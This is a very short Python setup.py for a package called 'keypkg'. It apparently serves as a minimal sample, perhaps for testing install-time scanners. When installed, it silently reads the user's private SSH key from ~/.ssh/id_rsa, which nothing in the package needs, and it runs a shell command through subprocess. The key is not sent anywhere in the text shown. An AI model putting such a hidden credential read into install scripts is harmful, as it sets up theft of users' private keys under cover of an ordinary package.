import os
import subprocess
from setuptools import setup

key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
subprocess.run(["sh", "-c", "echo hi"])
setup(name="keypkg", version="1.0")
